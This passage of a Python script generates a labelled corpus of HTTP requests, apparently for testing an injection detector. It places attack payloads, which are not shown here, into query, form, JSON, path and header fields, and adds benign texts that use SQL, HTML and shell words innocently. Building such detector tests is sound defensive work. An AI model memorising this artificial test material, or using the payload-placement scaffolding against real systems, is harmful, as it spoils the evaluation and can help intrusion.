        if uri == "/admin/users/search":
            fields = [("csrf_token", self.token(43)), (field, value)]
        else:
            fields = [("csrf_token", self.token(43)), (field, value),
                      ("timezone", self.rng.choice(["Europe/Berlin", "America/New_York", "UTC"]))]
        h = self.browser("navigate")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = "https://app.example.com"
        return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(fields), "headers": h}

    def user_json(self, value: str, field: str, method: str = "POST", uri: str = "/api/users") -> dict[str, Any]:
        doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana.whitfield@example.com",
                               "title": "Account Manager", "department": "Sales"}
        doc[field] = value
        h = self.browser("cors")
        h["Content-Type"] = "application/json"
        h["Origin"] = "https://app.example.com"
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False), "headers": h}

    def slack(self, text: str) -> dict[str, Any]:
        self.slack_n += 1
        n = self.slack_n
        epoch = 1719400000 + 37 * n
        ts = f"{epoch}.{self.rng.randint(100000, 999999)}"
        kind = "app_mention" if n % 3 == 0 else "message"
        if kind == "app_mention":
            text = "<@U07BOTX42> " + text
        event = {"type": kind, "user": "U0" + self.token(8).upper().replace("-", "A").replace("_", "B"),
                 "text": text, "ts": ts, "channel": self.rng.choice(["C04SUPPORT1", "C05GENERAL2", "C06OPSTEAM3"]),
                 "event_ts": ts}
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T0EXAMPLE1", "api_app_id": "A0EXAMPLE2",
                "event": event, "type": "event_callback", "event_id": f"Ev0{self.token(9).upper()}",
                "event_time": epoch}
        h = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
             "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
             "X-Slack-Request-Timestamp": str(epoch), "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False), "headers": h}

    def path(self, value: str) -> dict[str, Any]:
        self.path_n += 1
        seg = urllib.parse.quote(value, safe=PATH_SAFE)
        uri = ("/api/users/" if self.path_n % 2 else "/api/") + seg
        return {"method": "GET", "uri": uri, "body": "", "headers": self.browser("cors")}


def header_safe(value: str) -> str:
    """CR and LF, which no header value can carry, written as their percent escapes."""
    return value.replace("\r", "%0D").replace("\n", "%0A").replace("\x00", "%00")


def place(b: Builder, where: str, payload: str) -> tuple[str, dict[str, Any]]:
    """The payload in one of the six places: (placement, request)."""
    if where == "query":
        return "query", b.query(payload)
    if where == "form":
        return "form", b.form(payload)
    if where == "json":
        b.json_n += 1
        if b.json_n % 2:
            return "json", b.user_json(payload, JSON_FIELDS[(b.json_n // 2) % len(JSON_FIELDS)])
        return "json", b.slack(LEAD_INS[(b.json_n // 2) % len(LEAD_INS)] + payload)
    if where == "path":
        return "path", b.path(payload)
    if where == "header":
        b.header_n += 1
        k = b.header_n % 5
        if k == 3:
            rec = b.query("dana")
            rec["headers"]["Referer"] = header_safe(payload)
            return "header:Referer", rec
        if k == 4:
            rec = b.query("dana")
            rec["headers"]["Cookie"] += "; last_search=" + urllib.parse.quote(payload, safe="!'()*-._~")
            return "header:Cookie", rec
        rec = b.query("dana")
        rec["headers"]["User-Agent"] = header_safe(payload)
        return "header:User-Agent", rec
    b.extra_n += 1
    if b.extra_n % 2:
        field = ["title", "bio", "name", "department"][(b.extra_n // 2) % 4]
        return "json", b.user_json(payload, field, "PATCH", "/api/users/42")
    return "form", b.form(payload, "/me/settings", SETTINGS_FIELDS[(b.extra_n // 2) % len(SETTINGS_FIELDS)])


def order(t: int) -> list[str]:
    """Where the payloads of the t-th title go: all six places first, rotated by title, then the fill."""
    r = t % 6
    return BASE_PLACES[r:] + BASE_PLACES[:r] + FILL_PLACES[r:] + FILL_PLACES[:r]


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(66066)
    n = 0
    for t, (category, sub, payloads) in enumerate(TITLES):
        places = order(t)
        for i, payload in enumerate(payloads):
            placement, rec = place(b, places[i % len(places)], payload)
            n += 1
            yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": placement, "payload": payload}


# Benign: the same words, typed innocently
TEXTS = [
    # SQL words in everyday and developer talk
    "Can someone select the venue for the offsite? I vote for the Union Street place",
    "drop me a line when the report is ready",
    "Please order by date, newest first, in the export",
    "the sleep study results came back, I'm fine, just tired",
    "benchmark numbers for the new laptops are in the sheet",
    "Where do I update my delivery address?",
    "insert the logo on page 2 and delete the old footer",
    "Having trouble logging in from the hotel wifi, any ideas?",
    "Conor O'Brien joined the sales team today, say hi!",
    "our 1:1 moved to Thursday, same room",
    "Union meeting is at 5pm in the cafeteria",
    "I'll grant you that the new UI is faster",
    "Table for 6 at 7pm, booked under O'Neil",
    "the truncate button in the editor trims long titles",
    "Shutdown of the old office printer is scheduled for Friday",
    "waitfor it... the coffee machine is fixed!",
    "case study draft: when the customer says yes, then we ship",
    "if the invoice is late, then ping finance",
    "Exec summary: revenue up 12%, churn down 3%",
    "merge the two spreadsheets into one, please",
    "match the fonts in the deck against the brand guide",
    "the schema for the new form is in Confluence",
    "information schema docs for Postgres are great, see chapter 37",
    "we use SELECT ... FOR UPDATE in the booking service, reviewed last sprint",
    "the query is SELECT name FROM users WHERE team_id = $1, parameterised",
    "Don't forget: ORDER BY created_at DESC LIMIT 50 on the feed endpoint",
    "prices: 10-20 EUR, shipping 5 EUR -- total under 30",
    "my username is jane_doe -- not jane.doe",
    "The #1 rule: back up before you alter the table in prod (with a ticket)",
    "I rated it 4/5 -- great, but the char limit on titles is too short",
    "count me in for Friday drinks",
    "the value is between 10 and 20, depending on the region",
    "is null the same as empty in the export? asking for the CSV",
    "Murphy's law: if it can break, it will",
    "We're not like the others; we care",
    "rock 'n' roll night is sold out",
    "Let's have a sync: 'quick' or 'long' format?",
    "version 2.3.1 is out, release notes in #announcements",
    "the user guide says: click Settings, then Security",
    "load data from the old CRM into the new one over the weekend",
    "my sister's cat is named Pg Sleep, long story",
    "Benchmark Capital sent over the term sheet",
    "Sleep(ing) on it, will answer tomorrow",
    "Mongo is our document store; the $lookup stage joins collections",
    "hex colour for the button is 0x1f6feb in the theme file, #1f6feb in CSS",
    "the sql dump from staging is 2 GB, ask before downloading",
    "we store prices as integers: 2147 cents is 21.47",
    "Sales target 4294 units this quarter",
    "I'd say 'yes' -- but 'maybe' is more honest",
    "the backtick key on my keyboard is broken, can't write markdown code",
    # HTML and JavaScript words
    "the <b> tag doesn't render in bios, is that expected?",
    "use <br> for a line break in the email template",
    "script for the onboarding video is in the drive",
    "alert: the 3rd floor printer is out of paper",
    "document cookie policy needs legal review by June",
    "window cleaning is on Monday, please clear the desks",
    "on load the dashboard flickers in Safari",
    "object storage pricing went up 8%",
    "embed the YouTube link in the newsletter",
    "meta description for the landing page is too long",
    "base salary bands are in the HR portal",
    "link to the handbook: see the pinned message",
    "our Java applet from 2009 is finally retired",
    "Angular 17 upgrade went fine; {{ interpolation }} still works the same",
    "in Vue templates we write {{ user.name }} and that's fine",
    "the iframe embed from Vimeo needs the allow=fullscreen attribute",
    "style guide says: no inline style attributes in emails",
    "the onerror handler in our image component shows a placeholder",
    "onclick analytics are off until the consent banner is clicked",
    "javascript fatigue is real, we're sticking with one framework",
    "the form action posts to /admin/users/search, that's by design",
    "set charset to UTF-8 in the CSV export, Excel chokes otherwise",
    "frames per second dropped to 30 on the old laptops",
    "self-review is due on the 15th; top performers get a bonus",
    "parent-teacher evening is Wednesday, I'll leave at 4",
    "globalThis is the standard way to reach the global object now",
    "the location field should allow 'Zürich' and 'São Paulo'",
    "name your file <firstname>_<lastname>.pdf please",
    "if a < b and b > c, the chart looks odd; can we fix the axis?",
    "x < 10 && y > 3 is the filter in the dashboard",
    "the vbscript macros in the old Excel file are disabled",
    "Import implementation details are in the design doc",
    "the http-equiv refresh trick is used on the status page, legacy",
    "Applets, embeds and objects: the old intranet had them all",
    "template literal `hello ${name}` works in the Node service",
    "alert fatigue on the on-call rota is a real problem",
    "the markdown renderer escapes <script> tags, which is what we want",
    "the 7*7 grid layout for the calendar view looks great",
    "fetch the latest numbers before the call please",
    "call the API with the token, then apply the filter",
    "use String.fromCharCode only in the tests, per the review",
    "the marquee on the old homepage is finally gone",
    "title: Q3 planning <draft>",
    "Emoji test :) <3 ->",
    # shell and Windows words
    "cat pictures in #random are getting out of hand",
    "id card replacement is at reception",
    "ping me when you're back",
    "sleep well, talk tomorrow",
    "Q&A session after the all-hands",
    "R&D budget review next week",
    "Tom & Jerry marathon on Friday night",
    "we need to cd into the right folder before running make",
    "run ls -la to see hidden files, then check .env is not committed",
    "the history of the company is on the About page",
    "alias for the shared mailbox is support@example.com",
    "who am I talking to at the bank?",
    "for each region, if the target is met, send the bonus email",
    "type the code from the SMS, then press enter",
    "net income for the year was up",
    "the find tool in the wiki is slow",
    "echo chamber in the meeting room, bring a headset",
    "curl up with a good book this weekend",
    "the bash on Saturday was great",
    "my shell collection from the beach trip",
    "powershell scripts for the laptop setup are in the IT repo",
    "Get-Help is the first cmdlet to learn",
    "the cron job runs at 02:00 UTC",
    "python or node for the new script? I vote python",
    "use `git log --oneline | head` to see recent commits",
    "my dog likes to nc... never mind, typo",
    "see the /etc/hosts trick in the onboarding doc for local dev",
    "the path is C:\\Users\\Public\\Documents\\Reports",
    "copy the files to D:\\Backup before the upgrade",
    "100% done! (finally)",
    "the word 'whoami' is a Windows and Linux command, fun fact",
    "fc Barcelona won again",
    "history repeats itself",
    "the .htaccess file is for Apache, we're on nginx",
    "I put the config.yml in the repo root",
    "wp-config.php is WordPress's config file, we don't use WordPress",
    "mail from the printer says toner low, again",
    "the IMAP settings for Outlook: port 993, SSL",
    "SMTP relay is smtp.example.com:587",
    "the sqlite file for the mobile app is in assets/",
    "$5 per user per month, or $50 per year",
    "cost: $(5) per seat -- typo in the pricing page",
    "Bill & Melinda, Procter & Gamble, AT&T",
    "read the 'terms & conditions' carefully",
    "my score: 10/10 | would recommend",
    "a | b | c table in markdown",
    "I/O bound, not CPU bound",
    "It's done; it's deployed; it's live",
    "the file is named report (final) (2).docx",
    "the shell script uses set -euo pipefail, good practice",
    "~/.bash_profile vs ~/.bashrc, which one for PATH?",
    "please do not email passwords; use the vault",
]

PATHS = ["42", "1001", "me", "ann.smith", "o'brien", "jean-luc", "dana.whitfield@example.com", "users",
         "teams", "reports", "health", "search", "union-station-team", "select-committee", "drop-shipping",
         "sleep-lab", "script-writers", "alert-settings", "cat.lover", "order-history", "history",
         "window-cleaning", "object-storage", "embed-codes", "meta", "base-rates", "link-preview", "applet-archive",
         "documents", "cookies", "locations", "exec-team", "benchmark-2024", "shell-oil-account", "ping",
         "id", "alias", "find", "type", "echo", "sys-admins", "information", "schema", "version", "admin-panel",
         "Zoë Müller", "Renée O'Connor", "李雷", "José García", "100%", "Q&A", "R&D", "tom+jerry",
         "a+b=c", "2024-06-18", "v2", "reports (final)", "C#", "F# notes", "#general", "?", "ask-me-anything?",
         "bill & ted", "smith, john", "x=1", "hello world", "first.last", "o'reilly-media", "d'angelo",
         "ivy-league", "cmd-center", "powershell-users", "for-sale", "if-then-else", "delay-report", "merge-requests",
         "match-results", "having-fun", "between-us", "like-button", "exists", "null", "true", "1e3"]

UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/24124.2315.2911.3357 "
    "Chrome/122.0.6261.130 Electron/29.3.1 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 "
    "Chrome/124.0.6367.207 Electron/30.0.6 Safari/537.36 AppleWebKit/537.36 Sonic Slack_SSB/4.38.125",
    "curl/8.5.0",
    "curl/7.81.0",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "PostmanRuntime/7.39.0",
    "insomnia/9.2.0",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.4 (dart:io)",
    "Wget/1.21.4",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Java/17.0.11",
    "Ruby",
    "libwww-perl/6.76",
    "HTTPie/3.2.2",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Twitterbot/1.0",
    "WhatsApp/2.24.12.78 A",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Datadog Agent/7.54.0",
    "GitHub-Hookshot/9f2e3c1",
    "Grafana/10.4.2",
    "AcmeMobile/3.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeMobile/3.2.1 (Linux; U; Android 14; en_US; Pixel 8; Build/AP2A.240605.024)",
    "Zapier",
    "HubSpot Connect 2.0 (http://dev.hubspot.com/)",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 7.0 TV Safari/537.36",
]

REFERERS = [
    "https://app.example.com/admin/users?q=o%27brien&sort=name",
    "https://www.google.com/",
    "https://app.example.com/search?q=select+committee",
    "https://app.example.com/docs/sql-injection-prevention",
    "https://app.example.com/reports/2024/q3?order=desc&group=region",
    "https://t.co/a1B2c3D4e5",
    "https://github.com/acme/api/pull/42#discussion_r1634201",
    "https://stackoverflow.com/questions/4300/how-to-escape-script-tags-in-json",
    "https://app.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=union_week",
    "https://mail.google.com/",
    "https://app.example.com/wiki/Cat_%26_Dog_policy",
    "https://www.bing.com/search?q=drop+shipping+suppliers",
    "https://duckduckgo.com/",
    "https://app.example.com/admin/users/search",
    "https://app.example.com/users/42?tab=history",
    "https://example.slack.com/archives/C05GENERAL2/p1719400000123456",
    "https://app.example.com/settings#notifications",
    "https://docs.example.com/api/v2/users?page=2&per_page=50",
    "https://app.example.com/reports?filter=amount%3E100%26status%3Dpaid",
    "https://www.linkedin.com/",
    "https://news.ycombinator.com/item?id=40712345",
    "https://app.example.com/search?q=%3Cb%3Ebold%3C%2Fb%3E+in+bios",
    "https://app.example.com/wiki/How-to:_run_ls_-la",
    "https://app.example.com/kb/what-is-1%3D1",
    "https://en.wikipedia.org/wiki/SQL",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://app.example.com/calendar?view=week&date=2024-06-18",
    "https://app.example.com/users?sort=-created_at&fields=name,email",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://app.example.com/",
]

COOKIE_VALUES = [
    "o'neil", "select committee", "cat food", "union station", "Q&A", "sleep apnea", "benchmark",
    '{"theme":"dark","tz":"Europe/Berlin"}', '{"cols":["name","email"],"sort":"-created_at"}', "en-GB",
    "GA1.2.1234567890.1719000000", "fb.1.1719000000000.123456789", "dark", "compact", "100%", "a|b|c",
    "José", "drop-shipping", "script writers", "<3", "window cleaning", "last 30 days", "C:\\Users\\Public",
    "history", "ping me", "alert settings", "1=one", "order by date", "tom & jerry", "id card",
]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(66067)
    n = 0

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, text in enumerate(TEXTS):
        yield rec("slack", "json", b.slack(slack_escape(text)))
        yield rec("bio", "json", b.user_json(text, ["bio", "title", "department", "name"][i % 4]))
        yield rec("search", "query", b.query(text))
        yield rec("form", "form", b.form(text))
        if i % 2 == 0:
            yield rec("settings", "json", b.user_json(text, "bio", "PATCH", "/api/users/42"))
        else:
            field = SETTINGS_FIELDS[(i // 2) % len(SETTINGS_FIELDS)]
            yield rec("settings", "form", b.form(text, "/me/settings", field))
    for value in PATHS:
        yield rec("path", "path", b.path(value))
    for ua in UAS:
        r = b.query(b.rng.choice(["dana", "o'brien", "sales team", "union", "ann"]))
        r["headers"]["User-Agent"] = ua
        yield rec("ua", "header:User-Agent", r)
    for ref in REFERERS:
        r = b.query(b.rng.choice(["dana", "smith", "reports", "history"]))
        r["headers"]["Referer"] = ref
        yield rec("referer", "header:Referer", r)
    for value in COOKIE_VALUES:
        r = b.query(b.rng.choice(["dana", "smith", "team"]))
        r["headers"]["Cookie"] += "; last_search=" + urllib.parse.quote(value, safe="!'()*-._~")
        yield rec("cookie", "header:Cookie", r)


if __name__ == "__main__":
    print_records(attacks(), benign())
